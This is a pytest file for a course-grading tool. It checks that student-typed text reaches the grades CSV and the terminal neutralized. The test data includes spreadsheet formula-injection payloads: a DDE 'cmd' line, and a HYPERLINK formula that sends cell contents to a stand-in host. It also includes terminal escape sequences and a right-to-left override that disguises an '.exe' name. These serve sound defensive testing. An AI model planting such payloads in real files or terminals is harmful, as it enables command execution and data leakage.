"""What the instructor reads is inert (issue 11, item 7): the grades CSV and the terminal.

The attacks are example students of group ``ataques_texto`` (``examples/class.json``):
``ataque_formulas`` types four formulas as carnés and signatures, ``ataque_escape``
hands in a Part 1 whose ``nbformat`` field holds escape sequences and a bidi override.
"""

from __future__ import annotations

import csv
import re

import pytest

from coursetools import course as steps, examples, gradebook, safetext
from coursetools.grading import engine

ESC_FIELD = "\x1b[2J\x1b[H\x1b]0;ok\x07\u202e4"          # examples/class.json, ataque_escape
ESC_SHOWN = "\\x1b[2J\\x1b[H\\x1b]0;ok\\x07\\u202e4"      # what the terminal gets instead


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://x","clic")', '\'=HYPERLINK("http://x","clic")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),       # full-width equals sign
    ("-2", "-2"), ("-182.40", "-182.40"), ("20231", "20231"), ("0.60", "0.60"),  # numbers stay
    ("Ana Pérez", "Ana Pérez"), ("", ""), ("a=b", "a=b"), ("-", "'-"), ("-1e3", "'-1e3"),
])
def test_for_spreadsheet_quotes_formula_starts_and_keeps_numbers(cell, shown):
    assert safetext.for_spreadsheet(cell) == shown


@pytest.mark.parametrize("text, shown", [
    ("\x1b[2Jborrado", "\\x1b[2Jborrado"),
    ("a\rb\nc\td\x00e\x7f", "a\\x0db\\x0ac\\x09d\\x00e\\x7f"),
    ("\x9b31m", "\\x9b31m"),                                # C1 CSI
    ("abc\u202egpj.exe", "abc\\u202egpj.exe"),              # right-to-left override
    ("\u2066x\u2069\u200b\u2028", "\\u2066x\\u2069\\u200b\\u2028"),
    ("Peña Ñandú 试", "Peña Ñandú 试"),
    (ESC_FIELD, ESC_SHOWN),
])
def test_for_terminal_escapes_control_and_format_characters(text, shown):
    assert safetext.for_terminal(text) == shown
    assert safetext.for_terminal(shown) == shown  # idempotent


def test_terminal_tables_escape_student_ids_and_cells():
    table = gradebook.text_table(["estudiante", "x"], [["\x1b[2Jeva", "\u202eok"]])
    assert table.splitlines() == ["estudiante  x", "----------  --------",
                                  "\\x1b[2Jeva  \\u202eok"]


@pytest.fixture(scope="module")
def texts(course):
    """The two ataques_texto students, collected (inventory) and autograded, then forgotten."""
    students = sorted(s for s, spec in examples.roster().items() if spec.get("group") == "ataques_texto")
    examples.build_class(course, students)
    inventory = steps.collect_step(course)
    outcomes = steps.autograde(course, students, workers=2, progress=False)
    steps.export_step(course)
    with open(course / "exports" / "grades.csv", encoding="utf-8-sig") as fh:
        rows = {row["estudiante"]: row for row in csv.DictReader(fh)}
    with open(course / "exports" / "grades.csv", encoding="utf-8-sig", newline="") as fh:
        raw = fh.read()
    yield {"inventory": inventory, "outcomes": outcomes, "rows": rows, "raw": raw}
    gradebook.forget_students(course, students)


@pytest.mark.e2e
def test_identity_formulas_reach_the_csv_as_text(texts):
    row = texts["rows"]["ataque_formulas"]
    assert (row["carne_1"], row["firma_1"], row["carne_2"], row["firma_2"]) == (
        '\'=HYPERLINK("http://example.invalid/?"&A1,"ver notas")', "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)", "'-2+3")
    # numbers stay numbers: the release's stubs score 0 in Part 1
    assert (row["total_parte1_numpy"], row["puntos"], row["factor_tarde"]) == ("0", "0", "1.00")
    # no cell of the file starts a formula
    for line in csv.reader(texts["raw"].splitlines()):
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


@pytest.mark.e2e
def test_escape_sequences_in_a_notebook_reach_the_terminal_escaped(texts):
    expected = ("parte1_numpy: NO VÁLIDO: parte1_numpy.ipynb no se puede leer como notebook: "
                f"Unsupported nbformat version {ESC_SHOWN}")
    assert texts["inventory"]["ataque_escape"][0] == expected
    outcome = texts["outcomes"]["ataque_escape"]["parte1_numpy"]
    assert outcome.status == engine.INVALID
    table = engine.outcome_table(texts["outcomes"])
    line = next(l for l in table.splitlines() if l.startswith("ataque_escape"))
    assert re.split(r"\s{2,}", line)[:3] == [
        "ataque_escape", "NO VÁLIDO: parte1_numpy.ipynb no se puede leer como notebook: "
        f"Unsupported nbformat version {ESC_SHOWN}", "NO ENTREGADO: falta parte2_pytorch.ipynb"]
    assert "\x1b" not in table and "\u202e" not in table
